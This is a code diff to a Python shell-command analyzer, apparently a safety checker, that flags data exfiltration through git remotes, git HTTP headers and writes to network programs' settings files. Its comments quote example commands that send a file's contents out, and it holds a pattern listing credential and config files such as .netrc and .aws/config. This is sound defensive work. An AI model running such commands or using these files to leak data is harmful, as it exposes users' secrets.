@@ -146,6 +146,9 @@ def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: 
         # the program's own settings file, read by every later run of it, holds the text it sends
         an.r.add("exfiltration", f"{prog} config keeps {ref} in its settings, which it sends (an index, a registry, "
                                  "a proxy, a header)")
+    if prog == "git" and {"remote", "submodule"} & set(operands[:2]) and not an.defining and (
+            ref := next((r for a in operands if (r := setting_data(an, a))), "")):  # rt56: `git remote add x "http://h/$T"`
+        an.r.add("exfiltration", f"git keeps {ref} as a remote's address, which a later fetch or push asks for")
     if prog == "git":  # rt54: `git -c http.extraHeader="X: $(cat f)" ls-remote URL` sent the file's text
         headers = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "-c" and
                    re.match(r"(?i)http\.(?:.*\.)?extraheader=", args[i + 1])]
@@ -582,6 +585,31 @@ def mark_descriptors(an: Analyzer, text: str) -> None:
 
 
 _EXEC_REDIRECTS = lazyre.compile(r"(?<![\w-])exec((?:\s+(?:\{?\w*\}?|\d*)[<>]+&?-?\s*[^\s;&|<>]+)+)")
+
+
+# rt56: files a network program reads its settings from by itself, by their place (its folder, a parent, the home):
+# an index, a registry, a proxy, a remote, a login. Written on a line that takes from a data file, the program sends
+# that text at its next run (uv.toml's index-url, .condarc's channel_alias, .cargo/config.toml's proxy, .git/config's
+# remote were approved; .npmrc, .curlrc, .netrc… were held by other rules)
+_SETTINGS_FILE = lazyre.compile(
+    r"(?:^|/)(?:\.npmrc|\.yarnrc(?:\.yml)?|\.pnpmrc|pip\.conf|pip\.ini|\.pypirc|uv\.toml|pyproject\.toml|poetry\.toml|"
+    r"\.condarc|condarc|\.mambarc|\.curlrc|_curlrc|\.wgetrc|\.netrc|_netrc|\.gitconfig|\.gitmodules|\.hgrc|\.gemrc|"
+    r"\.bowerrc|bunfig\.toml|deno\.jsonc?|package\.json|composer\.json|auth\.json|Pipfile|requirements[\w.-]*\.txt|"
+    r"constraints[\w.-]*\.txt|gradle\.properties|\.terraformrc|"
+    r"\.docker/config\.json|\.cargo/config(?:\.toml)?|\.ssh/config|\.git/config|\.git/modules/.*/config|\.bundle/config|"
+    r"\.m2/settings\.xml|\.config/(?:pip|uv|gh|git|pypoetry|containers|helm|rclone)/[^/]+|\.pip/pip\.conf|"
+    r"\.gem/credentials|\.aws/config|\.kube/config|\.gradle/init\.gradle)$")
+
+
+def settings_written(an: Analyzer, text: str) -> None:
+    """rt56: a line that takes from a data file (``line_data``) and writes a network program's settings file
+    (``_SETTINGS_FILE``): that program sends the text at its next run; refused where it is written, as a network
+    setting in the environment is (rt55)."""
+    for path in dict.fromkeys(an.written):
+        if not any(c in path for c in "*?[$") and _SETTINGS_FILE.search(path) and (ref := line_data(an, text)):
+            an.r.add("exfiltration", f"writes {posixpath.basename(path)}, a network program's settings, on a line that "
+                                     f"takes from {ref}: the program sends them")
+            return
 
 
 def data_value(an: Analyzer, word: str) -> str:
